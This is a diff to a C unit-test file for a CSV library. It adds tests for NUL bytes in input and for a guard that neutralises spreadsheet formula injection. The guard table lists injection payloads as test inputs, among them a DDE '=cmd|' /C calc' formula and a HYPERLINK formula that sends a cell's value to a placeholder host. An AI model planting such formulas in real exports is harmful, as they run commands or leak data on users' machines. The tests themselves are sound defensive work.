@@ -68,6 +68,21 @@ static const struct csv_case cases[] = {
 	  "E t:1: record longer than 5 bytes\n3:[abcde]\n" },
 };
 
+/* Inputs with NUL bytes, so given with their length. */
+static const struct {
+	struct csv_case c;
+	size_t len;
+} nul_cases[] = {
+	/* a NUL would end the C string: the field cut short, silently */
+	{ { "a,b\0c\nd\n", 0, 0, "E t:1: a NUL byte in field 2 (the file "
+	    "is not plain text: save it as \"CSV UTF-8\")\n2:[d]\n" }, 8 },
+	{ { "ok\n\"x\ny\0\"\nz\n", 0, 0, "1:[ok]\nE t:3: a NUL byte in "
+	    "field 1 (the file is not plain text: save it as \"CSV "
+	    "UTF-8\")\n4:[z]\n" }, 12 },
+	{ { "\0\n", 0, 0, "E t:1: a NUL byte in field 1 (the file is not "
+	    "plain text: save it as \"CSV UTF-8\")\n" }, 2 },
+};
+
 static void
 show(struct csv_reader *r, int rc, const struct err *e, struct buf *out)
 {
@@ -92,9 +107,9 @@ drain(struct csv_reader *r, struct buf *out)
 }
 
 static void
-run_memory(const struct csv_case *c, struct buf *out)
+run_memory(const struct csv_case *c, size_t len, struct buf *out)
 {
-	struct csv_reader *r = csv_new_memory(c->input, strlen(c->input), "t",
+	struct csv_reader *r = csv_new_memory(c->input, len, "t",
 					      c->max_record, c->max_fields);
 	drain(r, out);
 	csv_free(&r);
@@ -103,12 +118,12 @@ run_memory(const struct csv_case *c, struct buf *out)
 
 /* Dovecot's rule: a streaming parser must not care where chunks end. */
 static void
-run_bytewise(const struct csv_case *c, struct buf *out)
+run_bytewise(const struct csv_case *c, size_t len, struct buf *out)
 {
 	struct csv_reader *r = csv_new("t", c->max_record, c->max_fields);
 
-	for (const char *p = c->input; *p; p++) {
-		csv_feed(r, p, 1);
+	for (size_t i = 0; i < len; i++) {
+		csv_feed(r, c->input + i, 1);
 		drain(r, out);
 	}
 	csv_feed_end(r);
@@ -117,13 +132,13 @@ run_bytewise(const struct csv_case *c, struct buf *out)
 }
 
 static void
-run_file(const struct csv_case *c, struct buf *out)
+run_file(const struct csv_case *c, size_t len, struct buf *out)
 {
 	FILE *fp = tmpfile();
 	struct csv_reader *r;
 
 	assert_non_null(fp);
-	fputs(c->input, fp);
+	fwrite(c->input, 1, len, fp);
 	rewind(fp);
 	r = csv_new_file(fp, "t", c->max_record, c->max_fields);
 	drain(r, out);
@@ -134,7 +149,7 @@ run_file(const struct csv_case *c, struct buf *out)
 static void
 test_reader_table(void **state)
 {
-	void (*runs[])(const struct csv_case *, struct buf *) = {
+	void (*runs[])(const struct csv_case *, size_t, struct buf *) = {
 		run_memory, run_bytewise, run_file
 	};
 
@@ -144,7 +159,7 @@ test_reader_table(void **state)
 			struct buf out;
 
 			buf_init(&out, 0);
-			runs[k](&cases[i], &out);
+			runs[k](&cases[i], strlen(cases[i].input), &out);
 			if (strcmp(buf_cstr(&out), cases[i].expect) != 0)
 				print_error("case %zu run %zu: input '%s'\n",
 					    i, k, cases[i].input);
@@ -152,6 +167,30 @@ test_reader_table(void **state)
 			buf_free(&out);
 		}
 	}
+}
+
+/* A NUL byte is an error naming FILE:LINE, fed whole, bytewise or from
+ * a FILE; the reader goes on at the next line. */
+static void
+test_reader_nul(void **state)
+{
+	void (*runs[])(const struct csv_case *, size_t, struct buf *) = {
+		run_memory, run_bytewise, run_file
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(nul_cases) / sizeof(nul_cases[0]); i++)
+		for (size_t k = 0; k < 3; k++) {
+			struct buf out;
+
+			buf_init(&out, 0);
+			runs[k](&nul_cases[i].c, nul_cases[i].len, &out);
+			if (strcmp(buf_cstr(&out), nul_cases[i].c.expect))
+				print_error("NUL case %zu run %zu\n", i, k);
+			assert_string_equal(buf_cstr(&out),
+					    nul_cases[i].c.expect);
+			buf_free(&out);
+		}
 }
 
 /* Push mode says "need more" (0) without losing the partial record. */
@@ -223,6 +262,8 @@ test_quote_table(void **state)
 		{ " lead", "\" lead\"" },
 		{ "trail ", "\"trail \"" },
 		{ "Иван", "Иван" },
+		{ "a;b", "\"a;b\"" },
+		{ "a\tb", "\"a\tb\"" },
 	};
 
 	(void)state;
@@ -232,6 +273,74 @@ test_quote_table(void **state)
 		buf_init(&b, 0);
 		assert_int_equal(csv_quote(&b, t[i].in), 0);
 		assert_string_equal(buf_cstr(&b), t[i].out);
+		buf_free(&b);
+	}
+}
+
+/* OWASP's rule for cells a spreadsheet would evaluate: a leading ',
+ * numbers left alone; and csv_unguard undoes exactly what was added. */
+static void
+test_cell_guard(void **state)
+{
+	static const struct { const char *in, *out; } t[] = {
+		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+		{ "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
+		  "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\"" },
+		{ "+1+2", "'+1+2" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1:A2)", "'@SUM(A1:A2)" },
+		{ "\t=1+1", "\"'\t=1+1\"" },
+		{ "\tplain", "\"'\tplain\"" },
+		{ "\r=1+1", "\"'\r=1+1\"" },
+		{ " =1+1", "' =1+1" },
+		{ "\n@x", "\"'\n@x\"" },
+		{ "-", "'-" },
+		{ "--5", "'--5" },
+		{ "-5-", "'-5-" },
+		{ "-5e", "'-5e" },
+		{ "-0x10", "'-0x10" },
+		{ "'=x", "''=x" },	/* one more: unguard gives "'=x" */
+		/* numbers stay numbers */
+		{ "-5", "-5" },
+		{ "-3.5", "-3.5" },
+		{ "+7", "+7" },
+		{ "-.5", "-.5" },
+		{ "-1e3", "-1e3" },
+		{ "-2.5E-3", "-2.5E-3" },
+		{ "42", "42" },
+		{ " -5", "\" -5\"" },
+		{ "'-5", "'-5" },
+		/* not formulas */
+		{ "a=b", "a=b" },
+		{ "x@example.org", "x@example.org" },
+		{ "'quoted", "'quoted" },
+		{ "", "" },
+		{ NULL, "" },
+		/* another separator: quoted so it cannot split the cell */
+		{ "a;=1+1", "\"a;=1+1\"" },
+		{ "a\t=1+1", "\"a\t=1+1\"" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		struct csv_reader *r;
+		struct buf b;
+		struct err e;
+
+		buf_init(&b, 0);
+		assert_int_equal(csv_cell(&b, t[i].in), 0);
+		if (strcmp(buf_cstr(&b), t[i].out) != 0)
+			print_error("case %zu\n", i);
+		assert_string_equal(buf_cstr(&b), t[i].out);
+		if (t[i].in != NULL && *t[i].in) {
+			/* read back and unguarded: the value itself */
+			buf_adds(&b, "\r\n");
+			r = csv_new_memory(b.data, b.len, "g", 0, 0);
+			assert_int_equal(csv_next(r, &e), 1);
+			assert_string_equal(csv_unguard(csv_field(r, 0)),
+					    t[i].in);
+			csv_free(&r);
+		}
 		buf_free(&b);
 	}
 }
@@ -271,9 +380,11 @@ main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_reader_table),
+		cmocka_unit_test(test_reader_nul),
 		cmocka_unit_test(test_push_needs_more),
 		cmocka_unit_test(test_file_many_records),
 		cmocka_unit_test(test_quote_table),
+		cmocka_unit_test(test_cell_guard),
 		cmocka_unit_test(test_write_read_roundtrip),
 	};
 
